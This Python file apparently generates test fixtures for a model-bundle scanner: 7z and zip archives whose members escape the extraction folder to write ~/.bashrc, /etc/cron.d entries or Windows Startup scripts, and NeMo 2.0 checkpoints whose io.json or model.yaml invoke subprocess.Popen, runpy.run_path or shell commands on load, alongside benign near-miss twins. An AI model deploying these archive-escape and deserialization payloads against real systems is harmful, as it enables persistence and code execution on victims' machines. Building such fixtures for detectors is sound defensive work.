"""Model bundles for session 25: 7z archives whose members escape the extraction folder (names with ../, absolute
names, drive letters and backslashes; symbolic links stored as 7-Zip and py7zr store them), zip entries whose
Info-ZIP Unicode Path extra field names another path than the header, and their benign twins. 7z files are written
by the 7z tool (-snl keeps symbolic links) with placeholder names, then renamed in the plain header (same length in
UTF-16LE, header and start-header CRCs recomputed), as the format's specification lays them out. Never load these.
"""
import io
import json
import os
import struct
import subprocess
import tempfile
import zipfile
import zlib

from bundles import CMD, STATE


def seven_zip(entries, renames=(), switches=("-m0=Copy", "-mhc=off")):
    """entries: (name, bytes) files or (name, None, target) symbolic links, written by the 7z tool in that order
    (times fixed); renames: (placeholder, name) pairs of equal length applied to the plain header afterwards."""
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "src")
        for entry in entries:
            path = os.path.join(src, entry[0])
            os.makedirs(os.path.dirname(path), exist_ok=True)
            if entry[1] is None:
                os.symlink(entry[2], path)
            else:
                with open(path, "wb") as f:
                    f.write(entry[1])
            os.utime(path, (0, 0), follow_symlinks=False)
        for root, dirs, _ in os.walk(src):
            for d in dirs:
                os.utime(os.path.join(root, d), (0, 0), follow_symlinks=False)
        target = os.path.join(tmp, "out.7z")
        names = sorted({e[0].split("/")[0] for e in entries})
        subprocess.run(["7z", "a", "-t7z", "-snl", *switches, target, *names], cwd=src, check=True, stdout=subprocess.DEVNULL)
        with open(target, "rb") as f:
            data = bytearray(f.read())
    offset, size = struct.unpack_from("<QQ", data, 12)
    start = 32 + offset
    header = bytes(data[start:start + size])
    for old, new in renames:
        a, b = old.encode("utf-16-le"), new.encode("utf-16-le")
        assert len(a) == len(b) and header.count(a) == 1, (old, new)
        header = header.replace(a, b)
    data[start:start + size] = header
    struct.pack_into("<I", data, 28, zlib.crc32(header))
    struct.pack_into("<I", data, 8, zlib.crc32(bytes(data[12:32])))
    return bytes(data)


def zip_unicode_path(members):
    """A zip whose entries may carry an Info-ZIP Unicode Path extra field (0x7075): version 1, the CRC-32 of the
    header name, then the UTF-8 name that unzip, 7-Zip and Python's zipfile (3.12+) use instead of the header's."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data, unicode_name in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.external_attr = 0o600 << 16
            if unicode_name is not None:
                body = b"\x01" + struct.pack("<I", zlib.crc32(name.encode())) + unicode_name.encode()
                info.extra = struct.pack("<HH", 0x7075, len(body)) + body
            z.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def attacks():
    out = []

    def add(name, data, source):
        out.append((name, data, source))

    bashrc = "../../../home/user/.bashrc"
    add("s25-7z-dotdot.7z", seven_zip([("model/weights.pkl", STATE), ("x" * len(bashrc), CMD.encode() + b"\n")], [("x" * len(bashrc), bashrc)]),
        "s25: 7z archive with a member named ../../../home/user/.bashrc (py7zr before 0.20.2, CVE-2022-44900, and other 7z extractors that keep .. names write it outside the folder)")
    cron = "/etc/cron.d/pathfinder"
    add("s25-7z-absolute.7z", seven_zip([("model/weights.pkl", STATE), ("x" * len(cron), b"* * * * * root " + CMD.encode() + b"\n")], [("x" * len(cron), cron)], ("-m0=LZMA2", "-mhc=off")),
        "s25: LZMA2 7z archive with a member named by an absolute path /etc/cron.d/pathfinder")
    startup = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\model.bat"
    add("s25-7z-drive-backslash.7z", seven_zip([("model/weights.pkl", STATE), ("x" * len(startup), CMD.encode() + b"\r\n")], [("x" * len(startup), startup)]),
        "s25: 7z archive with a member named by a Windows drive path with backslashes (C:\\ProgramData\\...\\StartUp\\model.bat)")
    win = "model\\..\\..\\..\\Windows\\win.ini"
    add("s25-7z-backslash-dotdot.7z", seven_zip([("model/weights.pkl", STATE), ("x" * len(win), b"[fonts]\n")], [("x" * len(win), win)]),
        "s25: 7z archive with a member model\\..\\..\\..\\Windows\\win.ini (Windows extractors split on backslashes)")
    add("s25-7z-symlink-dotdot.7z", seven_zip([("model/up", None, "../../.."), ("model/xx/.profile", CMD.encode() + b"\n")], [("model/xx/.profile", "model/up/.profile")]),
        "s25: 7z archive with a symbolic link model/up -> ../../.. (stored as 7-Zip stores links: Unix mode in the attributes, the target as the data) and a member written through it")
    add("s25-7z-symlink-absolute.7z", seven_zip([("model/cache", None, "/etc"), ("model/xxxxx/cron.d/pathfinder", b"* * * * * root " + CMD.encode() + b"\n")],
                                                [("model/xxxxx/cron.d/pathfinder", "model/cache/cron.d/pathfinder")], ("-m0=LZMA2", "-mhc=off")),
        "s25: LZMA2 7z archive with a symbolic link model/cache -> /etc, then a member model/cache/cron.d/pathfinder written through it")
    add("s25-zip-unicode-path-escape.zip", zip_unicode_path([("model/weights.pkl", STATE, None), ("model/notes.txt", CMD.encode() + b"\n", "../../../home/user/.bashrc")]),
        "s25: zip entry named model/notes.txt in its headers whose Info-ZIP Unicode Path extra field (0x7075) names ../../../home/user/.bashrc: unzip and 7-Zip extract to the extra field's name")
    popen = _fiddle_config("popen_1", "subprocess", "Popen", {"args": ["sh", "-c", CMD]})
    add("s25-nemo2-io-json-popen.tar", nemo2_checkpoint(nemo2_io_json((popen, {"callbacks": {"type": "ref", "key": "popen_1"}}))),
        "s25: NeMo 2.0 checkpoint (tarred folder) whose context/io.json (fiddle JSON) holds a Config with fn_or_cls pyref subprocess.Popen: load_context's fdl.build calls it (fiddle's default pyref policy allows any non-C-builtin import)")
    runpy = _fiddle_config("run_path_1", "runpy", "run_path", {"path_name": "/tmp/pathfinder-redteam.py"})
    add("s25-nemo2-io-json-runpy.zip", zip_unicode_path([("ckpt/context/io.json", nemo2_io_json((runpy, {"extra": {"type": "ref", "key": "run_path_1"}})), None),
                                                          ("ckpt/context/model.yaml", NEMO2_MODEL_YAML.encode(), None)]),
        "s25: NeMo 2.0 checkpoint zipped, context/io.json building runpy.run_path through a fiddle Config")
    add("s25-nemo2-model-yaml-target.tar", nemo2_checkpoint(nemo2_io_json(), NEMO2_MODEL_YAML + "callbacks:\n  - _target_: subprocess.check_output\n    args: [sh, -c, '" + CMD + "']\n"),
        "s25: NeMo 2.0 checkpoint whose context/model.yaml adds a callback with _target_: subprocess.check_output")
    return out


def benign():
    return [
        ("bundle-7z-inside-links.7z", seven_zip([("model/v1/weights.pkl", STATE), ("model/latest", None, "v1"), ("model/v2/weights.pkl", None, "../v1/weights.pkl"),
                                                  ("model/..notes.txt", b"fine\n")]),
         "near miss: a 7z archive (written by the 7z tool with -snl) with symbolic links to siblings and a name starting with .."),
        ("bundle-zip-unicode-path.zip", zip_unicode_path([("model/weights.pkl", STATE, None), ("model/caf\xe9.txt", b"fine\n", "model/caf\xe9.txt")]),
         "near miss: a zip entry with an Info-ZIP Unicode Path extra field naming the same path as its header"),
        ("bundle-zip-lookalike-dots.zip", zip_unicode_path([("\uff0e\uff0e/\uff0e\uff0e/model/weights.pkl", STATE, None), ("\u2025/model/notes.txt", b"fine\n", None),
                                                           ("model\uff0fconfig.json", b"{}", None)]),
         "near miss: zip names with look-alikes of .. and / (fullwidth full stop U+FF0E, two-dot leader U+2025, fullwidth solidus U+FF0F): "
         "zipfile, tarfile, py7zr, unzip and 7-Zip create them as ordinary names (no extractor that writes with wide-character APIs normalises them)"),
        ("bundle-nemo2-checkpoint.tar", nemo2_checkpoint(nemo2_io_json()),
         "a NeMo 2.0 Llama checkpoint folder as a tarball: context/io.json in fiddle's JSON (pyrefs to nemo, fiddle, torch, builtins.tuple), context/model.yaml"),
    ]


# ---- NeMo 2.0 checkpoint context (fiddle's JSON serialization, what nemo.lightning.io.load_context rebuilds) ----

def _pyref(module, name):
    return {"type": "pyref", "module": module, "name": name}


def _fiddle_config(key, fn_module, fn_name, arguments):
    """A fiddle Config object as serialization.dump_json writes it: its type, items and traverser metadata."""
    meta = f"buildable_traverser_metadata_{key}"
    return {
        key: {
            "type": _pyref("fiddle._src.config", "Config"),
            "items": [[f"Attr(name='{k}')", v] for k, v in arguments.items()],
            "metadata": {"type": "ref", "key": meta},
            "paths": [f"<root>.{key}"],
        },
        meta: {
            "type": _pyref("fiddle._src.config", "BuildableTraverserMetadata"),
            "items": [["Attr(name='fn_or_cls')", _pyref(fn_module, fn_name)],
                      ["Attr(name='argument_names')", {"type": _pyref("builtins", "tuple"), "items": [[f"Index(index={i})", k] for i, k in enumerate(arguments)], "metadata": None}],
                      ["Attr(name='argument_history')", {"type": "ref", "key": "history_1"}]],
            "metadata": {"type": _pyref("fiddle._src.config", "BuildableTraverserMetadata"), "items": [], "metadata": None},
        },
    }


def nemo2_io_json(extra=None):
    """context/io.json of a NeMo 2.0 Llama checkpoint: a TrainerContext whose model is LlamaModel(Llama32Config1B)."""
    objects = {"history_1": {"type": _pyref("fiddle._src.history", "History"), "items": [], "metadata": None}}
    objects.update(_fiddle_config("llama32_config1_b_1", "nemo.collections.llm.gpt.model.llama", "Llama32Config1B",
                                  {"seq_length": 8192, "params_dtype": _pyref("torch", "bfloat16"),
                                   "activation_func": _pyref("torch.nn.functional", "silu")}))
    objects.update(_fiddle_config("auto_tokenizer_1", "nemo.collections.common.tokenizers.huggingface.auto_tokenizer", "AutoTokenizer",
                                  {"pretrained_model_name": "meta-llama/Llama-3.2-1B"}))
    objects.update(_fiddle_config("llama_model_1", "nemo.collections.llm.gpt.model.llama", "LlamaModel",
                                  {"config": {"type": "ref", "key": "llama32_config1_b_1"}, "tokenizer": {"type": "ref", "key": "auto_tokenizer_1"}}))
    context = {"model": {"type": "ref", "key": "llama_model_1"}}
    if extra is not None:
        objects.update(extra[0])
        context.update(extra[1])
    objects.update(_fiddle_config("trainer_context_1", "nemo.lightning.io.pl", "TrainerContext", context))
    doc = {"root": {"type": "ref", "key": "trainer_context_1"}, "objects": objects,
           "refcounts": {k: 1 for k in objects}, "version": "0.0.1"}
    return json.dumps(doc).encode()


NEMO2_MODEL_YAML = """\
_target_: nemo.collections.llm.gpt.model.llama.LlamaModel
config:
  _target_: nemo.collections.llm.gpt.model.llama.Llama32Config1B
  seq_length: 8192
  params_dtype:
    _call_: false
    _target_: torch.bfloat16
tokenizer:
  _target_: nemo.collections.common.tokenizers.huggingface.auto_tokenizer.AutoTokenizer
  pretrained_model_name: meta-llama/Llama-3.2-1B
"""


def nemo2_checkpoint(io_json, model_yaml=NEMO2_MODEL_YAML):
    """A NeMo 2.0 checkpoint folder shared as a tarball: context/io.json, context/model.yaml, weights/metadata.json."""
    from bundles import tar
    return tar([("llama32-1b/context/io.json", io_json), ("llama32-1b/context/model.yaml", model_yaml.encode()),
                ("llama32-1b/weights/metadata.json", b'{"sharded_backend": "torch_dist", "sharded_backend_version": 1}')])
